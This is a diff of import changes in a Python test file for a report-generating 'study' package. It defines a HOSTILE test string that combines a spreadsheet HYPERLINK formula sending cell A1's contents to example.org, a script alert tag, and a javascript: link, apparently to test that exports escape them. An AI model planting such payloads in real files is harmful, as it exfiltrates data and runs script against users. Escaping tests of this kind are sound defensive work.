@@ -11,14 +11,14 @@ from pathlib import Path
 
 import pytest
 
-from study.commands.app import main
-from study.pictures import heatmap_page
+from study.cli.app import main
+from study.console import visible
 from study.report.document import Code, Document, Section
 from study.report.markdown import to_markdown
 from study.report.numbers import FORMULAS, to_csv
-from study.shown import visible
+from study.tracking.heatmap_page import heatmap_page
 from tests.study.report.studies import PARALLEL, questions_in_two_languages, study
-from trainables import storage
+from trainables.storage import atomic as storage
 
 HOSTILE = '=HYPERLINK("http://example.org/?"&A1)<script>alert(1)</script>[x](javascript:alert(2))'
 
